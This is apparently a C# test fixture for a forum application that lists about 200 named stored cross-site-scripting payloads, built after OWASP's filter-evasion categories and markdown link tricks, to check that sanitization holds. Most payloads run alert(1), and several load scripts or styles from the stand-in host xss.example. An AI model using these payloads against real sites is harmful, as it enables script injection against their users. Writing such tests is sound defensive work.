namespace ForumApp.Tests.Security;

/// <summary>A named attempt at stored cross-site scripting: text a member could write into any field.</summary>
public sealed record XssVector(string Name, string Text)
{
    public override string ToString() => Name;
}

/// <summary>
/// Cross-site scripting attempts after the categories of OWASP's filter-evasion cheat sheet, plus the
/// markdown tricks that only a markdown forum invites. Every text is one that validation can accept: no NUL or
/// other control characters (those are refused before anything is stored), and between 5 and 200 characters,
/// so the same text fits a comment, a thread title, an article and a moderation or report reason alike.
/// </summary>
public static class XssVectors
{
    private const string Base64Script = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";

    public static IReadOnlyList<XssVector> All { get; } =
    [
        // <script> in its many spellings.
        new("script", "<script>alert(1)</script>"),
        new("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
        new("script-src-upper", "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>"),
        new("script-src-quoted", "<script src=\"https://xss.example/x.js\"></script>"),
        new("script-nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        new("script-double-open", "<<script>alert(1);//<</script>"),
        new("script-extraneous-brackets", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>"),
        new("script-unclosed", "<script>alert(1)"),
        new("script-non-alpha-attribute", "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>"),
        new("script-slash-separator", "<SCRIPT/SRC=\"http://xss.example/xss.js\"></SCRIPT>"),
        new("script-half-open", "<SCRIPT SRC=http://xss.example/xss.js?< B >"),
        new("script-newline-in-tag", "<script\n>alert(1)</script\n>"),
        new("script-tab-in-tag", "<script\t>alert(1)</script>"),
        new("script-module", "<script type=\"module\">import(\"//xss.example/x.js\")</script>"),
        new("script-entity-in-name", "<scr&#105;pt>alert(1)</scr&#105;pt>"),
        new("script-after-closing-script", "</script><script>alert(1)</script>"),
        new("script-in-template", "<template><script>alert(1)</script></template>"),
        new("script-in-xmp", "<xmp><script>alert(1)</script></xmp>"),
        new("script-in-conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
        new("script-in-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
        new("script-after-doctype", "<!DOCTYPE html><script>alert(1)</script>"),
        new("script-in-processing-instruction", "<? foo=\"><script>alert(1)</script>\">"),

        // Breaking out of the markup around the text.
        new("break-double-quote-script", "\"><script>alert(1)</script>"),
        new("break-single-quote-script", "'><script>alert(1)</script>"),
        new("break-double-quote-img", "\"><img src=x onerror=alert(1)>"),
        new("break-single-quote-img", "'><img src=x onerror=alert(1)>"),
        new("break-attribute-handler", "x\" onmouseover=\"alert(1)"),
        new("break-attribute-handler-single", "x' onmouseover='alert(1)"),
        new("break-attribute-autofocus", "\" autofocus onfocus=\"alert(1)"),
        new("break-textarea", "</textarea><script>alert(1)</script>"),
        new("break-title", "</title><script>alert(1)</script>"),
        new("break-style", "</style><script>alert(1)</script>"),
        new("break-comment", "--><script>alert(1)</script>"),
        new("break-containers", "</p></div></article></section></main><script>alert(1)</script>"),
        new("break-comment-early-close", "<!--><img src=x onerror=alert(1)>-->"),
        new("break-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        new("mutation-svg-style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
        new("mutation-math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        new("mutation-form-math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),

        // Event handlers on images and media.
        new("img-onerror", "<img src=x onerror=alert(1)>"),
        new("img-onerror-quoted", "<img src=\"x\" onerror=\"alert(1)\">"),
        new("img-onerror-unclosed", "<img src=x onerror=alert(1)//"),
        new("img-onerror-backticks", "<img src=x onerror=`alert(1)`>"),
        new("img-onerror-entity-payload", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
        new("img-slash-separators", "<img/src=\"x\"/onerror=alert(1)>"),
        new("img-newline-separators", "<img\nsrc=x\nonerror=alert(1)>"),
        new("img-tab-separators", "<img\tsrc=x\tonerror=alert(1)>"),
        new("img-handler-mixed-case", "<IMG SRC=x OnErRoR=alert(1)>"),
        new("img-malformed-quotes", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">"),
        new("img-onmouseover-hash", "<IMG SRC=# onmouseover=\"alert(1)\">"),
        new("img-onmouseover-no-src", "<IMG onmouseover=\"alert(1)\">"),
        new("picture-source-onerror", "<picture><source srcset=\"x\" onerror=\"alert(1)\"><img src=x></picture>"),
        new("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
        new("video-poster", "<video poster=javascript:alert(1)//></video>"),
        new("audio-onerror", "<audio src=x onerror=alert(1)>"),
        new("isindex-onerror", "<isindex type=image src=1 onerror=alert(1)>"),

        // Event handlers on everything else.
        new("body-onload", "<body onload=alert(1)>"),
        new("body-onpageshow", "<BODY ONPAGESHOW=alert(1)>"),
        new("details-ontoggle", "<details open ontoggle=alert(1)>"),
        new("marquee-onstart", "<marquee onstart=alert(1)>XSS</marquee>"),
        new("input-autofocus", "<input autofocus onfocus=alert(1)>"),
        new("select-autofocus", "<select autofocus onfocus=alert(1)>"),
        new("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
        new("anchor-tabindex-onfocus", "<a id=x tabindex=1 onfocus=alert(1)></a>"),
        new("div-onmouseover", "<div onmouseover=\"alert(1)\">hover me</div>"),
        new("paragraph-slash-onclick", "<p/onclick=alert(1)>x</p>"),
        new("onanimationstart", "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>"),
        new("ontransitionend", "<p style=\"transition:1s\" ontransitionend=alert(1)>x</p>"),
        new("iframe-onload", "<iframe onload=alert(1)>"),
        new("anchor-onclick", "<a href=\"#\" onclick=\"alert(1)\">x</a>"),
        new("https-link-onmouseover", "<a href=\"https://example.com\" onmouseover=alert(1)>x</a>"),

        // javascript:, vbscript: and data: in URL attributes, with every encoding trick.
        new("img-src-javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
        new("img-src-javascript-unquoted", "<IMG SRC=javascript:alert('XSS')>"),
        new("img-src-javascript-mixed-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
        new("img-src-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
        new("img-src-decimal-entities", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
        new("img-src-padded-entities", "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>"),
        new("img-src-hex-entities", "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>"),
        new("img-src-embedded-tab", "<IMG SRC=\"jav\tascript:alert(1);\">"),
        new("img-src-encoded-tab", "<IMG SRC=\"jav&#x09;ascript:alert(1);\">"),
        new("img-src-encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">"),
        new("img-src-encoded-carriage-return", "<IMG SRC=\"jav&#x0D;ascript:alert(1);\">"),
        new("img-src-leading-space-and-meta-char", "<IMG SRC=\" &#14;  javascript:alert(1);\">"),
        new("img-src-vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
        new("img-dynsrc", "<IMG DYNSRC=\"javascript:alert(1)\">"),
        new("img-lowsrc", "<IMG LOWSRC=\"javascript:alert(1)\">"),
        new("body-background", "<BODY BACKGROUND=\"javascript:alert(1)\">"),
        new("table-background", "<TABLE BACKGROUND=\"javascript:alert(1)\"><tr><td>x</td></tr></TABLE>"),
        new("td-background", "<TABLE><TD BACKGROUND=\"javascript:alert(1)\">x</TD></TABLE>"),
        new("a-href-javascript", "<a href=\"javascript:alert(1)\">x</a>"),
        new("a-href-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
        new("a-href-named-colon-entity", "<a href=\"javascript&colon;alert(1)\">x</a>"),
        new("a-href-decimal-entity", "<a href=\"&#106;avascript:alert(1)\">x</a>"),
        new("a-href-hex-entities-no-semicolon", "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>"),
        new("a-href-encoded-tab", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
        new("a-href-raw-tab", "<a href=\"jav\tascript:alert(1)\">x</a>"),
        new("a-href-raw-newline", "<a href=\"java\nscript:alert(1)\">x</a>"),
        new("a-href-leading-spaces", "<a href=\"  javascript:alert(1)\">x</a>"),
        new("a-href-leading-entity-space", "<a href=\"&#32;javascript:alert(1)\">x</a>"),
        new("a-href-javascript-comment-newline", "<a href=\"javascript://%0Aalert(1)\">x</a>"),
        new("a-href-vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>"),
        new("a-href-data-base64", $"<a href=\"data:text/html;base64,{Base64Script}\">x</a>"),
        new("a-href-data-mixed-case", "<a href=\"DaTa:text/html,<script>alert(1)</script>\">x</a>"),
        new("a-slash-href", "<a/href=\"javascript:alert(1)\">x</a>"),
        new("a-href-unclosed", "<a href=\"javascript:alert(1)\""),
        new("a-xlink-href", "<a xlink:href=\"javascript:alert(1)\">x</a>"),
        new("area-href", "<map name=m><area shape=rect coords=0,0,100,100 href=\"javascript:alert(1)\"></map>"),
        new("form-action", "<form action=\"javascript:alert(1)\"><input type=submit></form>"),
        new("button-formaction", "<form><button formaction=javascript:alert(1)>X</button></form>"),
        new("input-formaction", "<form id=f></form><input form=f type=submit formaction=\"javascript:alert(1)\">"),

        // Frames, plug-ins and document-level elements.
        new("iframe-javascript", "<iframe src=\"javascript:alert(1)\"></iframe>"),
        new("iframe-data", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>"),
        new("iframe-srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
        new("iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>"),
        new("object-data-javascript", "<object data=\"javascript:alert(1)\"></object>"),
        new("object-data-html", $"<object data=\"data:text/html;base64,{Base64Script}\"></object>"),
        new("embed-svg-data", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
        new("embed-javascript", "<EMBED SRC=\"javascript:alert(1)\">"),
        new("applet", "<applet code=\"javascript:alert(1)\"></applet>"),
        new("meta-refresh-javascript", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">"),
        new("meta-refresh-data", $"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,{Base64Script}\">"),
        new("meta-set-cookie", "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert(1)</SCRIPT>\">"),
        new("base-javascript", "<BASE HREF=\"javascript:alert(1);//\">"),
        new("base-remote", "<base href=\"https://xss.example/\">"),
        new("link-import", "<link rel=import href=\"https://xss.example/x.html\">"),
        new("link-stylesheet-javascript", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">"),

        // Style sheets and CSS.
        new("style-import", "<style>@import 'https://xss.example/xss.css';</style>"),
        new("style-expression", "<style>body{width:expression(alert(1))}</style>"),
        new("style-attribute-expression", "<div style=\"width: expression(alert(1));\">x</div>"),
        new("style-attribute-commented-expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">"),
        new("style-attribute-escaped-expression", "<DIV STYLE=\"width: expression\\28 alert(1))\">x</DIV>"),
        new("style-attribute-url-javascript", "<div style=\"background-image: url(javascript:alert(1))\">x</div>"),
        new("style-attribute-url-entities", "<div style=\"background:url(&quot;javascript:alert(1)&quot;)\">x</div>"),
        new("style-attribute-behavior", "<div style=\"behavior: url(xss.htc);\">x</div>"),
        new("style-attribute-moz-binding", "<div style=\"-moz-binding:url(https://xss.example/xss.xml#xss)\">x</div>"),

        // SVG and MathML.
        new("svg-onload", "<svg onload=alert(1)>"),
        new("svg-slash-onload", "<svg/onload=alert(1)>"),
        new("svg-script", "<svg><script>alert(1)</script></svg>"),
        new("svg-script-xlink-data", "<svg><script xlink:href=\"data:,alert(1)\"></script></svg>"),
        new("svg-a-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>"),
        new("svg-a-href-javascript", "<svg><a href=\"javascript:alert(1)\"><circle r=\"40\"/></a></svg>"),
        new("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>"),
        new("svg-set-href", "<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text x=20 y=20>Click</text></a></svg>"),
        new("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        new("svg-foreignobject-iframe", "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>"),
        new("svg-image-onerror", "<svg><image href=\"x\" onerror=\"alert(1)\"/></svg>"),
        new("svg-use-data", "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x\"/></svg>"),
        new("svg-style-import", "<svg><style>@import 'https://xss.example/x.css';</style></svg>"),
        new("math-mi-xlink", "<math><mi xlink:href=\"javascript:alert(1)\">click</mi></math>"),
        new("math-maction-xlink", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">click<mtext>x</mtext></maction></math>"),
        new("math-href", "<math href=\"javascript:alert(1)\">click</math>"),

        // Markdown links and images.
        new("md-link-javascript", "[x](javascript:alert(1))"),
        new("md-link-javascript-upper", "[x](JAVASCRIPT:alert(1))"),
        new("md-link-javascript-leading-spaces", "[x](  javascript:alert(1))"),
        new("md-link-javascript-newline", "[x](\njavascript:alert(1))"),
        new("md-link-javascript-angle-brackets", "[x](<javascript:alert(1)>)"),
        new("md-link-javascript-with-title", "[x]( javascript:alert(1) \"title\")"),
        new("md-link-javascript-percent-encoded", "[x](javascript:alert%281%29)"),
        new("md-link-javascript-comment-newline", "[x](javascript://example.com/%0Aalert(1))"),
        new("md-link-decimal-entity", "[x](&#106;avascript:alert(1))"),
        new("md-link-hex-entity", "[x]( &#x6A;avascript:alert(1))"),
        new("md-link-tab-entity", "[x](jav&#x09;ascript:alert(1))"),
        new("md-link-colon-entity", "[x](javascript&colon;alert(1))"),
        new("md-link-decimal-colon-entity", "[x](javascript&#58;alert(1))"),
        new("md-link-vbscript", "[x](vbscript:msgbox(1))"),
        new("md-link-data", $"[x](data:text/html;base64,{Base64Script})"),
        new("md-image-javascript", "![x](javascript:alert(1))"),
        new("md-image-attribute-break", "![x](x\" onerror=\"alert(1))"),
        new("md-image-svg-data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        new("md-image-in-javascript-link", "[![x](https://example.com/a.png)](javascript:alert(1))"),
        new("md-reference-link", "[x][1]\n\n[1]: javascript:alert(1)"),
        new("md-reference-link-angle-title", "[x][a]\n\n[a]: <javascript:alert(1)> \"t\""),
        new("md-shortcut-reference", "[x]\n\n[x]: javascript:alert(1)"),
        new("md-autolink-javascript", "<javascript:alert(1)>"),
        new("md-autolink-quote", "<https://example.com/\" onmouseover=\"alert(1)>"),
        new("md-autolink-mailto-quote", "<mailto:x@example.com\" onmouseover=\"alert(1)>"),
        new("md-bare-javascript", "javascript:alert(1)"),
        new("md-bare-www-quote", "www.example.com/\"onmouseover=\"alert(1)"),
        new("md-bare-url-script", "https://example.com/\"><script>alert(1)</script>"),
        new("md-link-title-quote-unclosed", "[x](https://a \"a\\\" onmouseover=\\\"alert(1))"),
        new("md-link-title-quote", "[x](https://a \"a\\\" onmouseover=\\\"alert(1)\")"),
        new("md-link-title-single-quote", "[x](https://example.com 'a\\' onclick=alert(1)')"),
        new("md-link-fragment-attribute-break", "[x](#\" onclick=\"alert(1))"),
        new("md-link-text-html", "[<img src=x onerror=alert(1)>](https://example.com)"),
        new("md-image-alt-html", "![<img src=x onerror=alert(1)>](https://example.com/a.png)"),
        new("md-code-span", "`<script>alert(1)</script>`"),
        new("md-fenced-code", "```html\n<img src=x onerror=alert(1)>\n```"),
        new("md-indented-code", "    <script>alert(1)</script>"),
        new("md-html-block", "<div>\n<script>alert(1)</script>\n</div>"),
        new("md-table", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"),
        new("md-heading", "# <svg onload=alert(1)>"),
        new("md-emphasis", "*<img src=x onerror=alert(1)>* **\"onmouseover=\"alert(1)**"),
        new("md-blockquote", "> <script>alert(1)</script>"),
        new("md-list", "- [x](javascript:alert(1))\n- <iframe src=javascript:alert(1)>"),

        // Text that is only dangerous if something decodes it a second time.
        new("entity-lt-gt", "&lt;img src=x onerror=alert(1)&gt;"),
        new("entity-double-encoded", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
        new("entity-decimal", "&#60;script&#62;alert(1)&#60;/script&#62;"),
        new("entity-hex", "&#x3C;img src=x onerror=alert(1)&#x3E;"),
        new("entity-padded-no-semicolon", "&#0000060script&#0000062alert(1)&#0000060/script&#0000062"),
        new("javascript-escapes", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
        new("percent-encoded", "%3Cscript%3Ealert(1)%3C/script%3E"),
        new("fullwidth-brackets", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E"),
        new("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        new("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
    ];

    /// <summary>Vector names, for <c>[MemberData]</c>: one test case each, named after the vector.</summary>
    public static TheoryData<string> Names { get; } = new(All.Select(vector => vector.Name));

    public static XssVector Named(string name) => All.Single(vector => vector.Name == name);

    public static int IndexOf(string name) => All.Select((vector, index) => (vector, index)).Single(pair => pair.vector.Name == name).index;

    /// <summary>The vectors in groups that fit one screen of a thread page (it prerenders the first 25 comments).</summary>
    public static IReadOnlyList<IReadOnlyList<XssVector>> Batches(int size) => All.Chunk(size).ToList();

    public static TheoryData<int> BatchNumbers(int size) => new(Enumerable.Range(0, Batches(size).Count));
}
